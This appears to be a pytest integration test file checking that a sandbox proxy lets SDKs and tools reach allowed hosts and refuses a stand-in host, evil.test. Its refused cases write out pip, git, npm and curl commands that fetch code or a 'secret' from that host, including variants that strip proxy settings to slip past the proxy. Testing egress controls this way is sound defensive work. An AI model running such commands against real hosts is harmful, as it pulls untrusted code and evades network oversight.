"""Real clients inside a real sandbox: no flag, no code change; the allowed host works, others are refused."""

from __future__ import annotations

import pytest

from runtime.canary.net.session import CanaryNet
from tests.integration.conftest import Lab

pytestmark = pytest.mark.docker

KEYS = {
    "OPENAI_API_KEY": "sk-proj-" + "TrueOpenAi" * 12,
    "ANTHROPIC_API_KEY": "sk-ant-api03-" + "TrueAnthropic" * 7,
    "GEMINI_API_KEY": "AIza" + "TrueGem" * 5,
}
PROVIDERS = {"supported_providers": ["any"]}

OPENAI = """
import json, time, openai
client = openai.OpenAI()
times, text = [], ""
for chunk in client.chat.completions.create(model="gpt-5.2", stream=True,
        messages=[{"role": "user", "content": "One. Two two. Three three three. Four."}]):
    if chunk.choices and chunk.choices[0].delta.content:
        times.append(time.monotonic()); text += chunk.choices[0].delta.content
plain = client.responses.create(model="gpt-5.2", input="One. Two.").output_text
try:
    openai.OpenAI(base_url="https://evil.test/v1").models.list(); refused = None
except openai.PermissionDeniedError as e:
    refused = e.response.json()
print(json.dumps({"text": text, "plain": plain, "spread": times[-1] - times[0], "refused": refused}))
"""
ANTHROPIC = """
import json, time, anthropic
client = anthropic.Anthropic()
times, text = [], ""
with client.messages.stream(model="claude-opus-4-5", max_tokens=99,
        messages=[{"role": "user", "content": "One. Two two. Three three three. Four."}]) as stream:
    for piece in stream.text_stream:
        times.append(time.monotonic()); text += piece
plain = client.messages.create(model="claude-opus-4-5", max_tokens=99,
    messages=[{"role": "user", "content": "One. Two."}]).content[0].text
try:
    anthropic.Anthropic(base_url="https://evil.test").models.list(); refused = None
except anthropic.PermissionDeniedError as e:
    refused = e.response.json()
print(json.dumps({"text": text, "plain": plain, "spread": times[-1] - times[0], "refused": refused}))
"""
GEMINI = """
import json, time
from google import genai
from google.genai import errors, types
client = genai.Client()
times, text = [], ""
for chunk in client.models.generate_content_stream(model="gemini-2.5-pro",
        contents="One. Two two. Three three three. Four."):
    times.append(time.monotonic()); text += chunk.text or ""
plain = client.models.generate_content(model="gemini-2.5-pro", contents="One. Two.").text
other = genai.Client(http_options=types.HttpOptions(base_url="https://evil.test"))
try:
    other.models.generate_content(model="gemini-2.5-pro", contents="x"); refused = None
except errors.ClientError as e:
    refused = e.response.json()
print(json.dumps({"text": text, "plain": plain, "spread": times[-1] - times[0], "refused": refused}))
"""
SDKS = {
    "openai": (OPENAI, "api.openai.com", KEYS["OPENAI_API_KEY"]),
    "anthropic": (ANTHROPIC, "api.anthropic.com", KEYS["ANTHROPIC_API_KEY"]),
    "google-genai": (GEMINI, "generativelanguage.googleapis.com", KEYS["GEMINI_API_KEY"]),
}


@pytest.mark.parametrize("sdk", SDKS)
def test_sdk_streams_and_is_refused_elsewhere(lab: Lab, canary_net: CanaryNet, sdk: str):
    """The SDK talks to its simulated vendor token by token, which sees the true key that the SDK never had.

    Elsewhere the SDK's own error holds our 403 body.
    """
    code, host, key = SDKS[sdk]
    canary_net.control.set_token_delay(0.3)

    done = lab.run(code, env=KEYS, **PROVIDERS)

    assert done.code == 0, done.out + done.err
    result = done.json["result"]
    assert result["text"]
    assert result["plain"]
    assert result["spread"] >= 0.05, "the first token came with the last: nothing was streamed"
    assert result["refused"]["reason_code"] == "not_allowed_host"
    record = canary_net.record()
    sent = [list(request.credentials.values()) for request in record.requests_to(host)]
    assert [[value.removeprefix("Bearer ") for value in values] for values in sent] == [[key]] * 2
    assert record.requests_to("evil.test") == []


def shell(command: str) -> str:
    """An agent that runs a shell command and reports what it printed."""
    return (
        "import json, subprocess\n"
        f"done = subprocess.run({command!r}, shell=True, capture_output=True, text=True, timeout=60)\n"
        "print(json.dumps({'code': done.returncode, 'out': done.stdout, 'err': done.stderr}))\n"
    )


TOOLS = {
    "curl": ("curl -sS https://ok.test/echo", '"method"', "curl -sS https://evil.test/x", "not_allowed_host"),
    "curl, plain http": (
        "curl -sS http://ok.test/echo",
        '"method"',
        "curl -sS http://evil.test/x",
        "not_allowed_host",
    ),
    "pip": (
        "pip install -q --index-url https://pip.mirror.example/simple/ orchdemo && python3 -c 'import orchdemo; print(orchdemo.MESSAGE)'",
        "orchdemo works",
        "pip install --retries 0 https://evil.test/x-1-py3-none-any.whl",
        "not_allowed_host",
    ),
    "git over https": (
        "cd /tmp && git clone -q https://git.mirror.example/orchdemo.git && ls orchdemo",
        "README",
        "git clone https://evil.test/demo.git /tmp/x",
        "403",
    ),
    "urllib": (
        "python3 -c \"import urllib.request as u; print(u.urlopen('https://ok.test/echo').read())\"",
        "method",
        "python3 -c \"import urllib.request as u, urllib.error\ntry: u.urlopen('https://evil.test/')\nexcept urllib.error.HTTPError as e: print(e.read())\"",
        "not_allowed_host",
    ),
    "requests": (
        "python3 -c \"import requests; print(requests.get('https://ok.test/echo').text)\"",
        "method",
        "python3 -c \"import requests; print(requests.get('https://evil.test/').text)\"",
        "not_allowed_host",
    ),
    "httpx": (
        "python3 -c \"import httpx; print(httpx.get('https://ok.test/echo').text)\"",
        "method",
        "python3 -c \"import httpx; print(httpx.get('https://evil.test/').text)\"",
        "not_allowed_host",
    ),
    "curl without any proxy setting": (
        "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS https://ok.test/echo",
        '"method"',
        "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS https://evil.test/x 2>&1",
        "Could not resolve host",
    ),
    "curl without any variable": (
        "env -i curl -sS https://ok.test/echo",
        '"method"',
        "env -i curl -sS https://evil.test/x 2>&1",
        "Could not resolve host",
    ),
}


@pytest.mark.parametrize("tool", TOOLS)
def test_tool_reaches_allowed_host_only(lab: Lab, canary_net: CanaryNet, tool: str):
    """A tool as the image has it works on an allowed host, and shows why it is refused elsewhere."""
    allowed, expected, refused, reason = TOOLS[tool]

    works = lab.run(shell(allowed))
    fails = lab.run(shell(refused))

    assert works.code == 0, works.out + works.err
    assert works.json["result"]["code"] == 0, works.json["result"]
    assert expected in works.json["result"]["out"]
    shown = fails.json["result"]
    assert reason in shown["out"] + shown["err"], shown
    record = canary_net.record()
    assert record.requests_to("evil.test") == []
    assert record.queries_for("evil.test") == []


NODE_FETCH = """
const main = async () => {
  const ok = await fetch('https://ok.test/echo')
  const refused = await fetch('https://evil.test/x')
  console.log(JSON.stringify({ok: ok.status, refused: refused.status, body: await refused.json()}))
}
main()
"""
NPM = """
const { execSync } = require('node:child_process')
const run = (c) => { try { return execSync(c, {encoding: 'utf8', stdio: 'pipe'}) } catch (e) { return e.stdout + e.stderr } }
process.chdir('/tmp')
run('npm install --registry https://npm.mirror.example/ orchdemo')
const ok = run('node -e "console.log(require(\\'/tmp/node_modules/orchdemo\\'))"')
const refused = run('npm install --registry https://evil.test/ --fetch-retries 0 orchdemo')
console.log(JSON.stringify({ok, refused}))
"""


def test_node_fetch(lab: Lab):
    """Node's built-in fetch, which ignores proxy variables by itself, goes through and reads the refusal."""
    done = lab.run(NODE_FETCH, entry="main.js")

    assert done.code == 0, done.out + done.err
    result = done.json["result"]
    assert (result["ok"], result["refused"]) == (200, 403)
    assert result["body"]["reason_code"] == "not_allowed_host"


def test_npm(lab: Lab):
    """npm installs from the allowed (passed-through) registry and shows a 403 for another."""
    done = lab.run(NPM, entry="main.js")

    assert done.code == 0, done.out + done.err
    result = done.json["result"]
    assert "orchdemo" in result["ok"], result
    assert "403" in result["refused"], result


def test_websocket_is_carried(lab: Lab):
    """A WebSocket to an allowed host works through inspection."""
    code = """
import base64, json, os, socket, ssl
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTPS_PROXY"])
raw = socket.create_connection((proxy.hostname, proxy.port), 10)
auth = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
raw.sendall(f"CONNECT ok.test:443 HTTP/1.1\\r\\nHost: ok.test:443\\r\\nProxy-Authorization: Basic {auth}\\r\\n\\r\\n".encode())
assert b" 200 " in raw.recv(4096)
tls = ssl.create_default_context().wrap_socket(raw, server_hostname="ok.test")
tls.sendall(b"GET /ws HTTP/1.1\\r\\nHost: ok.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n")
head = tls.recv(4096)
tls.sendall(bytes([0x81, 0x85, 0, 0, 0, 0]) + b"hello")
print(json.dumps({"head": head.decode(), "echo": tls.recv(4096)[2:].decode()}))
"""
    done = lab.run(code)

    assert done.code == 0, done.out + done.err
    assert " 101 " in done.json["result"]["head"]
    assert done.json["result"]["echo"] == "hello"


def test_refused_host_costs_no_packet_and_one_line(lab: Lab, canary_net: CanaryNet):
    """A refusal leaves no TCP accept, no DNS query, and exactly one audit line."""
    done = lab.run(shell("curl -sS -m 10 https://evil.test/secret"))

    record = canary_net.record()
    assert (record.accepts, record.dns) == ([], []), record
    lines = lab.decisions(done.json["id"])
    assert [(line["verdict"], line["reason_code"], line["host"]) for line in lines] == [
        ("deny", "not_allowed_host", "evil.test")
    ]
